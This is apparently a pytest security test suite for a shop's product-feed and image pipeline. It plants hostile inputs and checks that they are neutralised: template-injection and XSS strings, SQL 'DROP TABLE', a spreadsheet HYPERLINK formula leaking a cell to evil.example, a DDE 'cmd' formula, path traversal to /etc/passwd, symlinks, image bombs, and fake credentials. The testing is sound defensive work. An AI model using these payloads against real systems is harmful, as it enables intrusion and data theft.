"""A night on an attacker's feed and photos, with the real commands.

What a product says may not run, escape a page, leave the allowed folders or be fetched; what is
secret may not be written anywhere. The refresh runs in a process of its own, with secrets in its
environment and a hook that notes every connection it opens.
"""

import csv
import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pytest
from PIL import Image

from tests.imaging.bombs import claims, many_scans
from tests.pipeline.shop import Shop, open_shop
from tests.processes import run_command

pytestmark = pytest.mark.slow

SECRETS = {
    "HF_TOKEN": "hf_planted1secret",
    "AWS_ACCESS_KEY_ID": "AKIAPLANTED2SECRET",
    "AWS_SECRET_ACCESS_KEY": "planted3secret/aws",
    "PGPASSWORD": "planted4secret",
    "DATABASE_URL": "postgres://shop:planted5secret@db.example/shop",
}
IN_URLS = ("planted6secret", "planted7secret", "planted8secret")

TEXTS = {
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    # Tags are taken out of titles; entities become the signs that they stand for.
    "script": "Mug &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    "&lt;img src=x onerror=alert(2)&gt;",
    "markup": "[/] [red]Mug[/red] [link=https://evil.example]here[/link]",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"Mug")',
    "wide formula": "\uff1dcmd|' /C calc'!A0",
    "hidden formula": "\u200b\t =1+1",
    "sql": "'); DROP TABLE products; --",
    "bidi": "Mug \u202egnp.exe",
}

ESCAPES = {
    "dots": "../secret.png",
    "deep dots": "deep/../../secret.png",
    "absolute": "{outside}/secret.png",
    "url": "file://{outside}/secret.png",
    "encoded": "file:///%2e%2e/secret.png",
    "link": "link.png",
    "linked folder": "up/secret.png",
    "look-alike dots": "\u2025/secret.png",
    "device": "/dev/zero",
    "pipe": "pipe.png",
    "windows device": "CON",
    "remote": "https://me:planted6secret@shop.example/a.png?token=planted7secret",
    "loopback": "http://127.0.0.1:9/a.png",
}

PHOTOS = {
    "good.png": "",
    "cmyk.jpg": "",
    "sixteen.png": "",
    "turned.jpg": "",
    "bomb.png": "pixels",
    "slow.jpg": "has more than 100 scans",
    "cut.png": "damaged",
    "text.png": "is not one of",
    "moving.gif": "several frames",
}


def note_connections(log: Path) -> None:
    """From now on, note this process's connections and look-ups of names in a file."""
    stream = log.open("a", buffering=1)

    def watch(event: str, arguments: Any) -> None:
        if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname"):
            detail = arguments[1:] if event == "socket.connect" else arguments
            stream.write(f"{event} {detail}\n")

    sys.addaudithook(watch)


@dataclass(frozen=True)
class Night:
    """The shop after its night, and the output of the commands."""

    shop: Shop
    before: frozenset[Path]
    refresh: "subprocess.CompletedProcess[str]"

    @property
    def connections(self) -> str:
        return (self.shop.folder / "connections.log").read_text("utf-8")


def command(shop: Shop, *arguments: str) -> "subprocess.CompletedProcess[str]":
    first = partial(note_connections, shop.folder / "connections.log")
    return run_command(*arguments, environment=SECRETS | shop.environment, first=first)


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    folder = tmp_path_factory.mktemp("enemy")
    shop = open_shop(folder / "shop")
    write_photos(shop.folder / "photos", shop.folder)
    write_feed(shop)
    text = shop.config.read_text("utf-8").replace("{{ colour }} {{ category }}", "{{ title }}")
    text = text.replace("candidates = 2", "candidates = 1")
    edited = (
        '[views.edited]\ntemplate = "{{ title }}"\nmethod = { name = "img2img", strength = 0.4 }\n'
    )
    shop.config.write_text(f"{text}{edited}steps = 3\nwidth = 32\nheight = 32\n", "utf-8")
    (shop.folder / "connections.log").touch()
    before = frozenset(folder.rglob("*"))
    return Night(shop, before, command(shop, "refresh", "--json"))


def write_photos(photos: Path, outside: Path) -> None:
    picture = Image.fromarray(np.random.default_rng(6).integers(0, 255, (48, 32, 3), np.uint8))
    picture.save(outside / "secret.png")
    (photos / "deep").mkdir()
    (photos / "link.png").symlink_to(outside / "secret.png")
    (photos / "up").symlink_to(outside)
    os.mkfifo(photos / "pipe.png")
    picture.save(photos / "good.png")
    picture.convert("CMYK").save(photos / "cmyk.jpg")
    Image.fromarray(np.arange(1024, dtype=np.uint16).reshape(32, 32) * 60).save(
        photos / "sixteen.png"
    )
    exif = Image.Exif()
    exif[0x0112] = 6
    picture.save(photos / "turned.jpg", exif=exif)
    (photos / "cut.png").write_bytes((photos / "good.png").read_bytes()[:900])
    (photos / "text.png").write_text("no picture", "utf-8")
    picture.save(photos / "moving.gif", save_all=True, append_images=[picture.rotate(90)])
    (photos / "bomb.png").write_bytes(claims(60_000, 60_000))
    (photos / "slow.jpg").write_bytes(many_scans(8000, 1500))


def write_feed(shop: Shop) -> None:
    link = f"https://shop.example/1?utm_source=feed&access_token={IN_URLS[2]}"
    rows = [
        (f"text-{number}", text, "mug", "red", "9.00 EUR", "", link, f"<p>{text}</p>")
        for number, text in enumerate(TEXTS.values())
    ]
    rows += [
        ("../../etc/passwd", "Mug", "../../mug", "blue", "1.00 EUR", "", "", ""),
        ("CON", "Mug", "mug", "blue", "1.00 EUR", "", "", ""),
        ("=1+1", "Mug", "@mug", "blue", "1.00 EUR", "", "", ""),
    ]
    for name, reference in ESCAPES.items():
        path = reference.format(outside=shop.folder)
        rows.append((f"escape {name}", "Mug", "mug", "red", "1.00 EUR", path, "", ""))
    for name in PHOTOS:
        rows.append((f"photo {name}", "Mug", "mug", "red", "1.00 EUR", name, "", ""))
    names = "id,title,product_type,color,price,reference,link,description,brand,availability"
    with (shop.folder / "feed.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(names.split(","))
        writer.writerows((*row, "Hearth", "in stock") for row in rows)
        stream.write(f"broken,https://me:{IN_URLS[0]}@shop.example\n")


def test_the_night_completes_and_reports_failures(night: Night) -> None:
    assert night.refresh.returncode == 1, night.refresh.stderr
    summary = json.loads(night.refresh.stdout)
    assert summary["products"]["rejected"] == 1
    errors = {each["product_id"]: each["error"] for each in summary["failures"]}
    assert errors.keys() == {
        *(f"escape {name}" for name in ESCAPES),
        *(f"photo {name}" for name, why in PHOTOS.items() if why),
    }
    for name, why in PHOTOS.items():
        if why:
            assert why in errors[f"photo {name}"]
            assert name in errors[f"photo {name}"]
    assert summary["images"]["failed"] == len(errors)


def test_no_photo_from_outside_was_read(night: Night) -> None:
    read = dict(night.shop.query("SELECT product_id, attributes['reference_sha256'] FROM products"))
    assert all(not read[f"escape {name}"] for name in ESCAPES)
    made = night.shop.query("SELECT DISTINCT product_id FROM lineage WHERE view = 'edited'")
    assert {product for (product,) in made} == {
        f"photo {name}" for name, why in PHOTOS.items() if not why
    }


def test_nothing_was_fetched(night: Night) -> None:
    assert night.connections == ""


def test_templates_see_text_and_never_code(night: Night) -> None:
    prompts = dict(
        night.shop.query("SELECT product_id, prompt FROM prompts WHERE view = 'packshot'")
    )
    assert "{{" in str(prompts["text-0"])
    assert "49" not in str(prompts["text-0"])
    assert night.shop.query("SELECT count(*) FROM products")[0][0] == 11 + len(ESCAPES) + len(
        PHOTOS
    )


class Page(HTMLParser):
    """The elements of a page and the addresses that they name."""

    def __init__(self) -> None:
        super().__init__()
        self.handlers: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.handlers += [value for _, value in attrs if value and "javascript:" in value]


def test_the_gallery_shows_the_texts_and_runs_none(night: Night) -> None:
    text = (night.shop.home.site / "index.html").read_text("utf-8")
    page = Page()
    page.feed(text)
    assert (page.handlers, page.scripts) == ([], 2)  # the products' index and the page's own script
    assert "<img src=x" not in text
    assert "Content-Security-Policy" in text


@pytest.mark.parametrize("channel", ["google", "shopify", "files"])
def test_no_cell_for_people_is_a_formula_and_no_file_leaves_the_folder(
    night: Night, channel: str
) -> None:
    """A machine's feed keeps the shop's cells; a spreadsheet would run some of them."""
    out = night.shop.folder / f"export-{channel}"
    passports = night.shop.folder / "passports.toml"
    passports.write_text(passports.read_text("utf-8").replace("at_least = 100", "at_least = 1"))
    done = command(night.shop, "export", "--channel", channel, "--out", str(out), "--json")
    assert done.returncode == 0, done.stderr
    exported = json.loads(done.stdout)
    assert exported["images"] > 0
    with Path(exported["feed"]).open(newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows for cell in row]
    assert cells
    for cell in cells if channel == "files" else ():
        assert not re.match(r"[\s\W_]*?[=+\-@\uff1d\uff0b\uff0d\uff20]", cell[:1])
        assert cell.isprintable()
    for path in out.rglob("*"):
        ours = r"[0-9a-f]{32}\.(png|jpg|webp)|\w+\.csv|\w+\.pictures\.sqlite"
        assert path.is_dir() or re.fullmatch(ours, path.name)


def test_everything_that_was_written_lies_in_its_folder(night: Night) -> None:
    folder = night.shop.folder
    mine = (night.shop.home.root, *folder.glob("export-*"))
    new = set(folder.parent.rglob("*")) - night.before
    assert [path for path in new if not any(path.is_relative_to(root) for root in mine)] == []


def test_commands_print_the_texts_as_they_are(night: Night) -> None:
    done = command(night.shop, "sql", "SELECT title FROM products WHERE product_id = 'text-2'")
    assert "[link=https://evil.example]" in done.stdout.replace("\n", "")
    for arguments in (("status",), ("plan",), ("publications",), ("doctor",)):
        done = command(night.shop, *arguments)
        assert done.returncode in (0, 1), done.stderr
        assert "Traceback" not in done.stderr
        assert "\x1b" not in done.stdout


def test_no_secret_is_written_anywhere(night: Night) -> None:
    """All files, all rows of the live file and of the snapshot, and everything that was said.

    The copies of the feed are left out: they are the feed as the shop wrote it.
    """
    home = night.shop.home
    texts = {"stdout": night.refresh.stdout, "stderr": night.refresh.stderr}
    done = command(night.shop, "refresh")
    texts |= {"second stdout": done.stdout, "second stderr": done.stderr}
    for database in (home.database, home.snapshots / "latest.duckdb"):
        with duckdb.connect(database, read_only=True) as connection:
            for (table,) in connection.execute("SELECT table_name FROM duckdb_tables()").fetchall():
                rows = connection.execute(f'SELECT to_json(t)::VARCHAR FROM "{table}" t').fetchall()
                texts[f"{database.name} {table}"] = "\n".join(row for (row,) in rows)
    for path in home.root.rglob("*"):
        if path.is_file() and not path.is_relative_to(home.root / "feeds"):
            texts[str(path.relative_to(home.root))] = path.read_bytes().decode("latin-1")
    assert any("event_log" in name or name.startswith("dagster/") for name in texts)
    secrets = [*SECRETS.values(), "planted5secret", *IN_URLS]
    found = {(name, secret) for name, text in texts.items() for secret in secrets if secret in text}
    assert found == set()
